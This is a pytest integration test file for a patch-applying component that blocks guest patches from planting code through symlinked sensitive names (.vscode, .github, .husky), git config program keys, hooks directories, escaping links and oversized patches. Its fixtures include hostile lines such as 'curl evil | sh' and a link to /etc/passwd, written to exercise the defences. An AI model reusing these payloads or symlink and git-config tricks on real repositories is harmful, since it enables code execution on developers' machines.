"""`apply_patch` decides on the final tree and on the checkout's own git config.

Real git, real checkouts, guest patches from the guest's own diff writer, the
fake signer. Each test is named for the attack it stops (issue 10, item 3):
a sensitive name slipped in as a symlink to an ordinary directory, a file
reached through a sensitive link, a symlink that escapes only once other
links are followed, a file the checkout's git config runs or includes, and
parsing that would stall the daemon's event loop.
"""

from __future__ import annotations

import asyncio
import sys
import time
from pathlib import Path

import pytest

sys.path.insert(0, str(Path(__file__).resolve().parents[2] / "unit" / "doors" / "changes"))
from changes_apply_kit import RUN, apply, git, setup, statuses  # noqa: E402
from changes_trees import Tree, file, link, read_tree  # noqa: E402

from tkbox.doors.changes import Limits, PatchRefused, apply_patch  # noqa: E402
from tkbox.doors.changes.patch import git_blob_sha1  # noqa: E402
from tkbox.record.testing import FakeSigner  # noqa: E402

pytestmark = pytest.mark.integration


def test_sensitive_name_as_a_symlink_to_an_ordinary_directory_is_held_back(tmp_path: Path
                                                                           ) -> None:
    """Stops `.vscode -> tools` plus tools/tasks.json: VS Code would run the task on open."""
    lower = {"src/a.py": file(b"a\n")}
    final = {**lower, ".vscode": link(b"tools"), "tools/tasks.json": file(b"{}\n")}
    co, patch = setup(tmp_path, lower, final)
    report = apply(patch, co)
    assert statuses(report) == {".vscode": "held back", "tools/tasks.json": "held back"}
    assert "reached as '.vscode/tasks.json'" in next(
        f.reason for f in report.files if f.path == "tools/tasks.json")
    assert read_tree(co) == lower


@pytest.mark.parametrize("name", [".devcontainer", ".github", ".husky", ".github/workflows",
                                  ".idea", ".circleci"])
def test_every_sensitive_directory_name_is_held_back_as_a_file_or_link(tmp_path: Path,
                                                                       name: str) -> None:
    """Stops a sensitive directory's name arriving as another type than a directory."""
    for kind in ("link", "file"):
        d = tmp_path / kind
        entry = link(b"docs") if kind == "link" else file(b"x\n")
        co, patch = setup(d, {"docs/x": file(b"x\n")}, {"docs/x": file(b"x\n"), name: entry})
        assert statuses(apply(patch, co))[name] == "held back"


def test_file_reached_through_a_checkout_symlink_under_a_sensitive_name_is_held_back(
        tmp_path: Path) -> None:
    """Stops changing ci/main.yml when the checkout has .github/workflows/ci.yml -> it."""
    lower = {".github/workflows/ci.yml": link(b"../../ci/main.yml"),
             "ci/main.yml": file(b"on: push\n"), "x": file(b"x\n")}
    final = {**lower, "ci/main.yml": file(b"on: push\nrun: curl evil | sh\n"),
             "x": file(b"y\n")}
    co, patch = setup(tmp_path, lower, final)
    report = apply(patch, co)
    assert statuses(report) == {"ci/main.yml": "held back", "x": "applied"}
    assert (co / "ci/main.yml").read_bytes() == b"on: push\n"


def test_file_reached_through_a_hooks_link_is_held_back(tmp_path: Path) -> None:
    """Stops rewriting scripts/pc.sh when .husky/pre-commit -> ../scripts/pc.sh runs it."""
    lower = {".husky/pre-commit": link(b"../scripts/pc.sh"), "scripts/pc.sh": file(b"true\n")}
    final = {**lower, "scripts/pc.sh": file(b"curl evil | sh\n")}
    co, patch = setup(tmp_path, lower, final)
    assert statuses(apply(patch, co)) == {"scripts/pc.sh": "held back"}


@pytest.mark.parametrize("links", [
    {".vscode": b"../co/tools"},  # out of the checkout and back in
    {".vscode": b"tools/..//../co/./tools"},  # through `..`, `.` and repeated slashes
    {".vscode": b"{co}/../co/tools"},  # absolute, into the checkout through `..`
    {".vscode": b"up/co/tools", "up": b".."},  # a chain of two links
])
def test_file_reached_through_a_link_out_and_back_into_the_checkout_is_held_back(
        tmp_path: Path, links: dict[str, bytes]) -> None:
    """Stops `.vscode -> ../co/tools` (a link that leaves the checkout and comes back)
    passing for a link out, so that tools/tasks.json is written unchecked."""
    co_path = str(tmp_path / "co").encode()
    lower: Tree = {p: link(t.replace(b"{co}", co_path)) for p, t in links.items()}
    lower |= {"tools/build.sh": file(b"make\n"), "x": file(b"x\n")}
    final = {**lower, "tools/tasks.json": file(b"{}\n"), "x": file(b"y\n")}
    co, patch = setup(tmp_path, lower, final)
    report = apply(patch, co)
    assert statuses(report) == {"tools/tasks.json": "held back", "x": "applied"}
    assert "reached as '.vscode/tasks.json'" in next(
        f.reason for f in report.files if f.path == "tools/tasks.json")
    assert not (co / "tools/tasks.json").exists()


def test_file_reached_through_a_link_to_the_checkouts_given_path_is_held_back(
        tmp_path: Path) -> None:
    """Stops an absolute `.vscode -> /via/co/tools` passing for a link out when the
    checkout was given as /via/co and /via is a symlink (its real path differs)."""
    (tmp_path / "via").symlink_to("real")
    given = tmp_path / "via" / "co"
    lower = {".vscode": link(str(given / "tools").encode()), "tools/build.sh": file(b"make\n")}
    final = {**lower, "tools/tasks.json": file(b"{}\n")}
    _, patch = setup(tmp_path / "real", lower, final)
    report = apply(patch, given)
    assert statuses(report) == {"tools/tasks.json": "held back"}
    assert "reached as '.vscode/tasks.json'" in report.files[0].reason


def test_file_reached_through_a_symlinked_parent_is_held_back_given_the_real_path(
        tmp_path: Path) -> None:
    """Stops `.vscode -> /via/co/tools` passing for a link out when /via is a symlink
    and the checkout is given by its real path (as the daemon gives a box's
    workspace, resolved): the kernel follows /via, so must the door."""
    (tmp_path / "via").symlink_to("real")
    lower = {".vscode": link(str(tmp_path / "via" / "co" / "tools").encode()),
             "v2": link(b"../../via/co/tools"), "tools/build.sh": file(b"make\n")}
    final = {**lower, "tools/tasks.json": file(b"{}\n")}
    co, patch = setup(tmp_path / "real", lower, final)
    report = apply(patch, co.resolve())
    assert statuses(report) == {"tools/tasks.json": "held back"}
    assert "reached as '.vscode/tasks.json'" in report.files[0].reason
    assert not (co / "tools/tasks.json").exists()


def test_a_link_that_truly_leaves_the_checkout_is_still_outside(tmp_path: Path) -> None:
    """Stops a sibling `co2` being taken for the checkout `co`: its tools are not the
    checkout's, and a new link through the checkout's link to it leads outside."""
    (tmp_path / "co2" / "tools").mkdir(parents=True)
    lower = {".vscode": link(b"../co2/tools"), "tools/build.sh": file(b"make\n")}
    final = {**lower, "tools/tasks.json": file(b"{}\n")}
    co, patch = setup(tmp_path, lower, final)
    assert statuses(apply(patch, co)) == {"tools/tasks.json": "applied"}
    _, patch = setup(tmp_path / "again", lower, {**lower, "t": link(b".vscode/tasks.json")})
    with pytest.raises(PatchRefused, match="outside the checkout"):
        apply(patch, tmp_path / "again" / "co")


def test_link_escaping_through_a_link_the_patch_creates_is_refused(tmp_path: Path) -> None:
    """Stops `l -> .` and `a -> l/../secret`: lexically inside, really the checkout's parent."""
    (tmp_path / "secret").write_text("host file\n")
    lower = {"x": file(b"x\n")}
    final = {**lower, "l": link(b"."), "a": link(b"l/../secret")}
    co, patch = setup(tmp_path, lower, final)
    with pytest.raises(PatchRefused, match="outside the checkout"):
        apply(patch, co)
    assert read_tree(co) == lower


def test_link_escaping_through_a_checkout_link_is_refused(tmp_path: Path) -> None:
    """Stops a new link that leaves the checkout through a link the checkout already has."""
    lower = {"up": link(b"../.."), "x": file(b"x\n")}
    final = {**lower, "a": link(b"up/etc/passwd")}
    co, patch = setup(tmp_path, lower, final)
    with pytest.raises(PatchRefused, match="outside the checkout"):
        apply(patch, co)


def test_link_into_dot_git_through_a_checkout_link_is_refused(tmp_path: Path) -> None:
    """Stops `h -> gd/hooks` when the checkout's `gd -> .git`: a link into the hooks."""
    lower = {"gd": link(b".git"), "x": file(b"x\n")}
    final = {**lower, "h": link(b"gd/hooks")}
    co, patch = setup(tmp_path, lower, final)
    with pytest.raises(PatchRefused, match="into .git"):
        apply(patch, co)


@pytest.mark.parametrize(("key", "value", "target"), [
    ("core.fsmonitor", "tools/fsmon.sh", "tools/fsmon.sh"),
    ("filter.x.clean", "./tools/clean.sh %f", "tools/clean.sh"),
    ("diff.x.textconv", "tools/conv", "tools/conv"),
    ("merge.x.driver", "tools/merge %O %A %B", "tools/merge"),
    ("core.sshCommand", "tools/ssh-wrap", "tools/ssh-wrap"),
    ("core.editor", "tools/ed", "tools/ed"),
    ("core.pager", "tools/pg", "tools/pg"),
    ("alias.up", "!tools/up.sh", "tools/up.sh"),
    ("include.path", "../tools/extra.cfg", "tools/extra.cfg"),
    ("credential.helper", "!./tools/cred", "tools/cred"),
])
def test_file_the_git_config_runs_or_includes_is_held_back(tmp_path: Path, key: str,
                                                           value: str, target: str) -> None:
    """Stops a patch rewriting what the checkout's git runs on its own (fsmonitor, drivers...)."""
    lower = {target: file(b"#!/bin/sh\n"), "x": file(b"x\n")}
    final = {target: file(b"#!/bin/sh\ncurl evil | sh\n"), "x": file(b"y\n")}
    co, patch = setup(tmp_path, lower, final, [(key, value)])
    assert statuses(apply(patch, co, allow_sensitive=True, dry_run=True))[target] == \
        "would apply"
    report = apply(patch, co)
    assert statuses(report) == {target: "held back", "x": "applied"}
    reason = next(f.reason for f in report.files if f.path == target)
    assert "git configuration" in reason and value not in reason


def test_program_named_in_an_included_config_is_held_back(tmp_path: Path) -> None:
    """Stops hiding `core.fsmonitor` in a config file the repository's config includes."""
    lower = {"cfg/base.cfg": file(b"[core]\n\tfsmonitor = tools/mon\n"),
             "tools/mon": file(b"#!/bin/sh\n")}
    final = {"cfg/base.cfg": file(b"[core]\n\tfsmonitor = tools/mon2\n"),
             "tools/mon": file(b"#!/bin/sh\nevil\n")}
    co, patch = setup(tmp_path, lower, final, [("include.path", "../cfg/base.cfg")])
    assert statuses(apply(patch, co)) == {"cfg/base.cfg": "held back", "tools/mon": "held back"}


def test_hooks_directory_reached_through_a_link_is_refused(tmp_path: Path) -> None:
    """Stops writing a hook under core.hooksPath by the name of a link to that directory."""
    lower = {".githooks": link(b"scripts"), "scripts/readme": file(b"r\n")}
    final = {**lower, "scripts/pre-commit": file(b"evil\n")}
    co, patch = setup(tmp_path, lower, final, [("core.hooksPath", ".githooks")])
    with pytest.raises(PatchRefused, match="hooks directory"):
        apply(patch, co)


def test_hooks_directory_link_retargeted_by_the_patch_is_refused(tmp_path: Path) -> None:
    """Stops re-pointing the hooks directory's link to a new directory full of hooks."""
    lower = {"hooks-dir": link(b"scripts"), "scripts/readme": file(b"r\n")}
    final = {"hooks-dir": link(b"other"), "scripts/readme": file(b"r\n"),
             "other/pre-commit": file(b"evil\n")}
    co, patch = setup(tmp_path, lower, final, [("core.hooksPath", "hooks-dir")])
    with pytest.raises(PatchRefused, match="hooks directory"):
        apply(patch, co)
    assert read_tree(co) == lower


def test_patch_beyond_the_line_limit_is_refused_with_a_clear_message(tmp_path: Path) -> None:
    """Stops a patch of tiny lines that would take gigabytes of memory to parse."""
    lower = {"big": file(b"")}
    final = {"big": file(b"x\n" * 200)}
    co, patch = setup(tmp_path, lower, final)
    with pytest.raises(PatchRefused, match=r"the patch has \d+ lines, more than the limit of 50"):
        apply(patch, co, limits=Limits(max_lines=50))


def test_files_beyond_the_memory_limit_are_refused(tmp_path: Path) -> None:
    """Stops a patch whose files, old and new, add up past what the daemon will hold."""
    lower = {"a": file(b"a" * 4000), "b": file(b"b" * 4000)}
    final = {"a": file(b"A" * 4000), "b": file(b"B" * 4000)}
    co, patch = setup(tmp_path, lower, final)
    with pytest.raises(PatchRefused, match="add up to more than 6000 bytes"):
        apply(patch, co, limits=Limits(max_total_bytes=6000))


def test_parsing_a_large_patch_does_not_stall_the_event_loop(tmp_path: Path) -> None:
    """Stops a large patch freezing every box's I/O while the door parses and plans it."""
    co = tmp_path / "co"
    co.mkdir()
    git(co, "init", "-q")
    content = b"".join(b"%d\n" % i for i in range(300_000))
    patch = (b"diff --git a/big b/big\nnew file mode 100644\n"
             b"index 0000000.." + git_blob_sha1(content)[:7].encode() + b"\n"
             b"--- /dev/null\n+++ b/big\n@@ -0,0 +1,300000 @@\n"
             + b"".join(b"+" + line for line in content.splitlines(keepends=True)))

    async def go() -> tuple[float, float]:
        gaps = [0.0]
        done = False

        async def tick() -> None:
            last = time.monotonic()
            while not done:
                await asyncio.sleep(0.005)
                now = time.monotonic()
                gaps.append(now - last)
                last = now

        ticker = asyncio.create_task(tick())
        await asyncio.sleep(0.02)  # the ticker is running before the door starts
        s = FakeSigner()
        await s.open_run(RUN, {})
        t0 = time.monotonic()
        await apply_patch(patch, co, s, RUN, dry_run=True)
        took = time.monotonic() - t0
        done = True
        await ticker
        return took, max(gaps)

    took, worst = asyncio.run(go())
    print(f"apply took {took:.2f}s, the loop's longest pause {worst:.3f}s")
    assert worst < min(0.6, took / 3), (took, worst)


def test_many_links_to_the_root_cannot_make_the_check_endless(tmp_path: Path,
                                                              monkeypatch: pytest.MonkeyPatch
                                                              ) -> None:
    """Stops links to their own directory multiplying every path's names without bound."""
    from tkbox.doors.changes import door as door_mod

    monkeypatch.setattr(door_mod, "MAX_TOTAL_ALIASES", 2000)
    lower = {"x": file(b"x\n")}
    final: Tree = {**lower, **{f"l{i}": link(b".") for i in range(40)},
                   **{f"d/f{i}": file(b"%d\n" % i) for i in range(100)}}
    co, patch = setup(tmp_path, lower, final)
    t0 = time.monotonic()
    with pytest.raises(PatchRefused, match="more than 2000 names through symlinks"):
        apply(patch, co)
    assert time.monotonic() - t0 < 60
